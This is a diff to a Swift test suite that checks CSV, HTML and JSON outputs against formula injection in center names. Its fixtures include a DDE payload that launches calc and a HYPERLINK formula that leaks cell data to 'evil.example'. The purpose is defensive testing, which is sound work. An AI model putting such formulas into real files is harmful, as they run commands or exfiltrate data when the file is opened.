@@ -141,6 +141,18 @@ struct CSVInjectionCommandTests {
         for file in ["ranking.csv", "adjustments.csv"] {
             Self.check(try Self.read(Data(contentsOf: dir.appendingPathComponent("out/\(file)"))), column: 1, expected: names, file)
         }
+        // The neutralized cell is the name with an apostrophe in front (OWASP's advice), quoted as CSV needs.
+        let ranking = String(decoding: try Data(contentsOf: dir.appendingPathComponent("out/ranking.csv")), as: UTF8.self)
+        #expect(ranking.contains("C01,'=cmd|' /C calc'!A0,"))
+        #expect(ranking.contains(#"C02,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")","#))
+        #expect(!ranking.contains(",=cmd") && !ranking.contains(",=HYPERLINK"))
+        // The HTML report escapes the names; the JSON keeps them exactly as written.
+        let html = String(decoding: try Data(contentsOf: dir.appendingPathComponent("out/report.html")), as: UTF8.self)
+        #expect(html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;点击&quot;)"))
+        #expect(!html.contains(#"=HYPERLINK("http"#))
+        let summary = try Data(contentsOf: dir.appendingPathComponent("out/summary.json"))
+        let centers = try #require((JSONSerialization.jsonObject(with: summary) as? [String: Any])?["centers"] as? [[String: Any]])
+        #expect(Set(centers.compactMap { $0["name"] as? String }).isSuperset(of: names))
     }
 
     @Test("compare: scheme labels in compare.csv, center names in movers.csv")
